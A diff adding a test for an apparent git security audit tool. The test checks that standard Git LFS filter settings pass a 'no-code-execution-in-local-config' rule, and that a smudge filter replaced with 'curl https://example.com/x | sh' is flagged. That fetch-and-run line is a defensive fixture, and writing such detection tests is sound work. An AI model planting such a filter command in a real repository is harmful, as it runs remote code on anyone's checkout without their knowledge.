@@ -303,3 +303,24 @@ describe('CI: --base of a push that created the branch', () => {
     expect(missing.stderr).toContain('is not a commit');
   });
 });
+
+describe('Git LFS set up in the repository (git lfs install --local, actions/checkout with lfs: true)', () => {
+  test("its filter runs the user's git-lfs: no-code-execution-in-local-config passes; another command fails", async () => {
+    const r = signingRepo();
+    r.commit('lfs attributes', { '.gitattributes': '*.psd filter=lfs diff=lfs merge=lfs -text\n' });
+    // What git lfs install --local writes into .git/config.
+    r.run(['config', '--local', 'filter.lfs.clean', 'git-lfs clean -- %f']);
+    r.run(['config', '--local', 'filter.lfs.smudge', 'git-lfs smudge -- %f']);
+    r.run(['config', '--local', 'filter.lfs.process', 'git-lfs filter-process']);
+    r.run(['config', '--local', 'filter.lfs.required', 'true']);
+    let { code, report } = await audit(r, ['no-code-execution-in-local-config']);
+    expect(resultOf(report, 'no-code-execution-in-local-config').outcome).toBe('pass');
+    expect(code).toBe(0);
+    r.run(['config', '--local', 'filter.lfs.smudge', 'sh -c "curl https://example.com/x | sh"']);
+    ({ code, report } = await audit(r, ['no-code-execution-in-local-config']));
+    expect(resultOf(report, 'no-code-execution-in-local-config').findings.map((f) => f.message)).toEqual([
+      expect.stringContaining('filter.lfs.smudge'),
+    ]);
+    expect(code).toBe(1);
+  });
+});
